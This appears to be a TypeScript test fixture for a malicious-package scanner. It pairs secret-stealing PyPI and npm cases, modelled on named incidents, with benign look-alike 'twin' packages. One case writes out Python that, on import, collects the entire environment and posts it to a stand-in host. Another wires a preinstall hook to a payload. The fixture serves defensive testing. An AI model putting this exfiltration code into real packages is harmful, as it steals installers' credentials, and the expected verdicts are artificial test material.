import { javascriptIncident, pythonIncident } from '../../support/incident-programs.ts'
import { npm, type PackageCase, pypi, sdist, tarball, wheel, YOUNG } from '../../support/package-case.ts'

const client = (variable: string, host: string): string => `import os, json, urllib.request
class Client:
    def __init__(self, api_key=None, base="https://${host}"):
        self.api_key = api_key or os.environ.get("${variable}")
        self.base = base
    def chat(self, messages, model="chat"):
        body = json.dumps({"model": model, "messages": messages}).encode()
        request = urllib.request.Request(self.base + "/v1/chat", data=body, headers={"authorization": "Bearer " + self.api_key})
        with urllib.request.urlopen(request) as answer:
            return json.load(answer)
`

/** Secrets of whoever installs or imports. */
export const stealers: readonly PackageCase[] = [
  {
    id: 'deepseeek',
    incident: 'deepseeek and deepseekai on PyPI, January 2025: environment, user and computer are sent by the import',
    project: pypi(
      'deepseeek',
      wheel('deepseeek', '0.0.8', {
        'deepseeek/__init__.py': 'from deepseeek.core import Client\n',
        'deepseeek/core.py': pythonIncident('deepseeek'),
      }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'steals-secrets',
      text: /^On import, reads .*the whole environment.* and sends it to eoyyiyqubj7mquj\.m\.pipe\.example/,
    },
    twin: pypi(
      'deepseek',
      wheel('deepseek', '1.2.0', { 'deepseek/__init__.py': client('DEEPSEEK_API_KEY', 'api.deepseek.example') }),
      {
        since: '2024-05-01T00:00:00Z',
      },
    ),
  },
  {
    id: 'deepseeek, split over three files',
    incident: 'the same, what is read and what is sent in files of their own',
    project: pypi(
      'deepseekai',
      sdist('deepseekai', '0.0.2', {
        'setup.py':
          'from setuptools import setup, find_packages\nsetup(name="deepseekai", version="0.0.2", packages=find_packages())\n',
        'deepseekai/__init__.py': 'from ._session import start\nstart()\n',
        'deepseekai/_facts.py': 'import os\ndef gather():\n    return {"cwd": os.getcwd(), "env": dict(os.environ)}\n',
        'deepseekai/_wire.py':
          'import requests\nHOST = "collect" + ".example"\ndef put(data):\n    requests.post("https://" + HOST + "/e", json=data)\n',
        'deepseekai/_session.py':
          'from ._facts import gather\nfrom . import _wire as wire\ndef start():\n    facts = gather()\n    wire.put({"v": 1, "data": facts})\n',
      }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'steals-secrets',
      text: /^On import, reads the working directory and the whole environment and sends it to collect\.example/,
      steps: ['deepseekai/_facts.py:3', 'deepseekai/_wire.py:4'],
    },
    twin: pypi(
      'settings-service',
      sdist('settings-service', '1.0.2', {
        'setup.py':
          'from setuptools import setup, find_packages\nsetup(name="settings-service", version="1.0.2", packages=find_packages())\n',
        'settings_service/__init__.py': 'from ._session import start\n',
        'settings_service/_facts.py':
          'import os\ndef gather(prefix):\n    return {name: value for name, value in os.environ.items() if name.startswith(prefix)}\n',
        'settings_service/_wire.py':
          'import requests\ndef get(url, token):\n    return requests.get(url, headers={"authorization": token}).json()\n',
        'settings_service/_session.py':
          'from ._facts import gather\nfrom . import _wire as wire\ndef start(url, token):\n    return {**wire.get(url, token), **gather("APP_")}\n',
      }),
    ),
  },
  {
    id: 'ctx',
    incident: 'ctx on PyPI, May 2022: an abandoned name taken over; the environment is part of an address',
    project: pypi('ctx', wheel('ctx', '0.2.6', { 'ctx.py': pythonIncident('ctx') }), {
      previous: wheel('ctx', '0.1.2', {
        'ctx.py': 'class Ctx(dict):\n    def __getattr__(self, name):\n        return self[name]\n',
      }),
      since: '2014-12-19T00:00:00Z',
    }),
    expect: {
      verdict: 'block',
      story: 'steals-secrets',
      text: /^On import, reads the whole environment, encodes it as base64 and sends it to anti-theft\.example/,
    },
    twin: pypi(
      'ctx',
      wheel('ctx', '0.2.6', {
        'ctx.py':
          'import os\nclass Ctx(dict):\n    def __getattr__(self, name):\n        return self[name]\ndef from_environment():\n    return Ctx(os.environ)\n',
      }),
      {
        previous: wheel('ctx', '0.1.2', {
          'ctx.py': 'class Ctx(dict):\n    def __getattr__(self, name):\n        return self[name]\n',
        }),
        since: '2014-12-19T00:00:00Z',
      },
    ),
  },
  {
    id: 'xinference',
    incident: 'xinference on PyPI, April 2026: what is known of the cloud is packed, enciphered and sent by the import',
    project: pypi(
      'xinference',
      wheel('xinference', '2.0.1', {
        'xinference/__init__.py': `${pythonIncident('xinference')}\n`,
        'xinference/core.py': 'def serve():\n    return None\n',
      }),
      {
        previous: wheel('xinference', '2.0.0', {
          'xinference/__init__.py': 'from .core import serve\n',
          'xinference/core.py': 'def serve():\n    return None\n',
        }),
      },
    ),
    expect: {
      verdict: 'block',
      story: 'steals-secrets',
      text: /^On import, reads .*~\/\.ssh.*, enciphers it and sends it to collect\.example/,
    },
    twin: pypi(
      'xinference',
      wheel('xinference', '2.0.1', {
        'xinference/__init__.py': 'from .core import serve\nfrom .cloud import identity\n',
        'xinference/core.py': 'def serve():\n    return None\n',
        'xinference/cloud.py': `import requests
def identity():
    token = requests.put("http://169.254.169.254/latest/api/token", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"}).text
    return requests.get("http://169.254.169.254/latest/meta-data/instance-id", headers={"X-aws-ec2-metadata-token": token}).text
`,
      }),
      {
        previous: wheel('xinference', '2.0.0', {
          'xinference/__init__.py': 'from .core import serve\n',
          'xinference/core.py': 'def serve():\n    return None\n',
        }),
      },
    ),
  },
  {
    id: '@bitwarden/cli',
    incident: '@bitwarden/cli on npm, spring 2026: a preinstall reads clouds and assistants and sends it enciphered',
    project: npm(
      '@bitwarden/cli',
      tarball(
        '@bitwarden/cli',
        '2026.4.0',
        {
          'build/bw.js': '#!/usr/bin/env node\nconsole.log("bw");\n',
          'bw_setup.js': 'require("./bw1.js");\n',
          'bw1.js': javascriptIncident('@bitwarden/cli'),
        },
        { bin: { bw: 'build/bw.js' }, scripts: { preinstall: 'node bw_setup.js' } },
      ),
      {
        previous: tarball(
          '@bitwarden/cli',
          '2026.3.0',
          { 'build/bw.js': '#!/usr/bin/env node\nconsole.log("bw");\n' },
          { bin: { bw: 'build/bw.js' } },
        ),
      },
    ),
    expect: {
      verdict: 'block',
      story: 'steals-secrets',
      text: /^On install, reads .*~\/\.aws.* and sends it to audit\.example/,
      steps: ['bw1.js:19'],
    },
    twin: npm(
      '@bitwarden/cli',
      tarball(
        '@bitwarden/cli',
        '2026.4.0',
        {
          'build/bw.js': `#!/usr/bin/env node
const { createCipheriv, randomBytes, createHash } = require('crypto');
const fs = require('fs');
function lock(text, password) {
  const key = createHash('sha256').update(password).digest();
  const iv = randomBytes(16);
  const cipher = createCipheriv('aes-256-cbc', key, iv);
  return Buffer.concat([iv, cipher.update(text), cipher.final()]);
}
fs.writeFileSync(process.argv[3], lock(fs.readFileSync(process.argv[2], 'utf8'), process.env.BW_PASSWORD));
`,
        },
        { bin: { bw: 'build/bw.js' } },
      ),
      {
        previous: tarball(
          '@bitwarden/cli',
          '2026.3.0',
          { 'build/bw.js': '#!/usr/bin/env node\nconsole.log("bw");\n' },
          { bin: { bw: 'build/bw.js' } },
        ),
      },
    ),
  },
]
